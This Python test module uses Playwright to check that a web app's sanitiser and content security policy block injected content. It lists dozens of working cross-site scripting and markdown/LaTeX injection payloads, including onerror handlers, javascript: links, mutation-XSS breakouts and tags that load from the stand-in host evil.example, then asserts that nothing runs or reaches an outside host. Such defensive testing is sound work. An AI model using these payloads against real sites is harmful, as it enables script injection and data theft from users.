"""Texts of attackers, and a window that notices what a page does with them."""

from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from playwright.sync_api import Dialog, Page
from studio.harness import DESKTOP, Studio

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=https://evil.example/a.png>",
    "<img src='/\\\\evil.example/b.png'>",
    "<img src='/\t/evil.example/c.png'>",
    "<img srcset='https://evil.example/d.png 1x'>",
    "<picture><source srcset=https://evil.example/e.png><img src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><image href=https://evil.example/f.png /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/g></object>",
    "<embed src=https://evil.example/h>",
    "<link rel=stylesheet href=https://evil.example/i.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/j'>",
    "<base href=https://evil.example/><img src=k.png>",
    "<style>@import url(https://evil.example/l.css);</style>",
    "<p style='background:url(https://evil.example/m.png)'>x</p>",
    "<table background=https://evil.example/n.png><tr><td>x</td></tr></table>",
    "<video src=https://evil.example/o.mp4 autoplay onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=https://evil.example/p.png></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>x</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '"><img src=x onerror=alert(1)>',
    "--><img src=x onerror=alert(1)><!--",
    "</textarea><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](https://evil.example/q.png)",
    '![x" onerror="alert(1)](x)',
    '[x](https://host.example/"onmouseover="alert(1))',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    r"$\href{javascript:alert(1)}{x}$ and \(\url{javascript:alert(1)}\)",
    r"$$\includegraphics{https://evil.example/q.png}$$",
    r"$\htmlStyle{background:url(https://evil.example/q.png)}{x}$ $\htmlData{a=b}{x}$",
    "$x<img src=x onerror=alert(1)>$ \\[<script>alert(1)</script>\\]",
    "```python\n<img src=x onerror=alert(1)> # <script>alert(1)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    r"$\def\a{\a\a}\a$",
    r"$\htmlId{x}{\class{y}{\cssId{z}{\style{background:url(https://evil.example/q.png)}{x}}}}$",
)
PAYLOADS = (*HTML, *MARKDOWN)
_SAFE_LINKS = {"http:", "https:", "mailto:"}
_PROTOCOLS = "[...document.querySelectorAll('a[href], area[href]')].map((link) => link.protocol)"


@contextmanager
def watched(studio: Studio, *, policy: bool) -> Iterator[tuple[Page, list[str]]]:
    """Open a window, and list what its page executes and which other hosts it asks.

    Args:
        studio: The studio.
        policy: Whether the browser obeys the content security policy. Without it, only the
            sanitiser stops a payload.
    """
    context = studio.browser.new_context(
        bypass_csp=not policy, viewport={"width": DESKTOP, "height": 800}, locale="en"
    )
    page, executed = context.new_page(), list[str]()
    host = urlsplit(studio.url).netloc

    def note(dialog: Dialog) -> None:
        executed.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def ask(url: str) -> None:
        if urlsplit(url).scheme in ("http", "https") and urlsplit(url).netloc != host:
            executed.append(f"request: {url}")

    page.on("dialog", note)
    page.on("request", lambda request: ask(request.url))
    try:
        yield page, executed
    finally:
        context.close()


def check(page: Page, executed: list[str], what: str) -> None:
    """Check that nothing was executed or fetched, and that no link would execute anything."""
    page.wait_for_load_state("networkidle")
    assert executed == [], what
    assert set(page.evaluate(_PROTOCOLS)) <= _SAFE_LINKS, what
